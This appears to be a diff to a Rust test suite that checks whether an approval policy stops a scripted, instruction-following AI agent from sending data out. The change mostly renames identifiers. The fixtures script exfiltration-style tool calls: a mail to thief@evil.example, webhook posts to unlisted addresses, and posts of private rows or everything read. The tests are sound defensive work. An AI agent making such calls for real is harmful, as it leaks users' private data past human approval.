@@ -35,7 +35,7 @@ struct Addresses {
 
 /// Returns the calls that an instruction requests.
 fn calls_for(instruction: &str, read: &str, addresses: &Addresses) -> Vec<(&'static str, Value)> {
-    let tell = |url: &str, text: &str| ("webhook", json!({"url": url, "body": {"text": text}}));
+    let post = |url: &str, text: &str| ("webhook", json!({"url": url, "body": {"text": text}}));
     let mail = |to: &str| {
         (
             "email",
@@ -49,14 +49,14 @@ fn calls_for(instruction: &str, read: &str, addresses: &Addresses) -> Vec<(&'sta
         )],
         "mail thief" => vec![mail("thief@evil.example")],
         "tell elsewhere" => vec![
-            tell(&addresses.elsewhere, HARMLESS),
-            tell(&addresses.canary, HARMLESS),
+            post(&addresses.elsewhere, HARMLESS),
+            post(&addresses.canary, HARMLESS),
         ],
         "search private" => vec![("mcp_docs_search", json!({"words": PRIVATE}))],
-        "tell" => vec![tell(&addresses.listed, HARMLESS)],
+        "tell" => vec![post(&addresses.listed, HARMLESS)],
         "mail" => vec![mail("mia@example.com")],
-        "tell private" => vec![tell(&addresses.listed, PRIVATE)],
-        "tell everything" => vec![tell(&addresses.listed, read)],
+        "tell private" => vec![post(&addresses.listed, PRIVATE)],
+        "tell everything" => vec![post(&addresses.listed, read)],
         _ => panic!("no call is scripted for {instruction}"),
     }
 }
@@ -278,7 +278,7 @@ impl World {
 
     /// Returns everything that arrived at any of the servers, headers and bodies.
     fn arrived(&self) -> String {
-        let mut all = format!("{:?}", self.docs.heard.lock().unwrap());
+        let mut all = format!("{:?}", self.docs.received.lock().unwrap());
         for receiver in [&self.listed, &self.elsewhere, &self.mail] {
             for (headers, body) in receiver.got() {
                 all.push_str(&format!("{headers:?} {}", String::from_utf8_lossy(&body)));
@@ -297,7 +297,7 @@ fn texts(receiver: &Receiver) -> Vec<Value> {
 }
 
 #[tokio::test]
-async fn obedient_model_does_what_was_approved_only() {
+async fn obedient_model_makes_only_approved_calls() {
     let world = World::start().await;
     world.obey().await;
 
@@ -323,7 +323,7 @@ async fn obedient_model_does_what_was_approved_only() {
     let mail = json!({"from": "goalpost@example.com", "to": ["mia@example.com"], "subject": "Orders", "text": HARMLESS});
     assert_eq!(texts(&world.mail), [mail]);
     assert_eq!(
-        *world.docs.heard.lock().unwrap(),
+        *world.docs.received.lock().unwrap(),
         [json!({"words": "orders"})]
     );
     assert!(
@@ -344,7 +344,7 @@ async fn obedient_model_does_what_was_approved_only() {
     world.stack.stop().await.unwrap();
 }
 
-/// The control: without the approval policy the private row arrives, so the policies above are effective.
+/// Relaxes the approval policy as a control: the private row then arrives, so the policies above are effective.
 #[tokio::test]
 async fn policy_without_approval_lets_private_rows_out() {
     let world = World::start().await;
@@ -378,7 +378,7 @@ async fn policy_without_approval_lets_private_rows_out() {
         "a forbidden address was dialled"
     );
     assert_eq!(
-        *world.docs.heard.lock().unwrap(),
+        *world.docs.received.lock().unwrap(),
         [json!({"words": "orders"})]
     );
     let rules: BTreeSet<String> = world
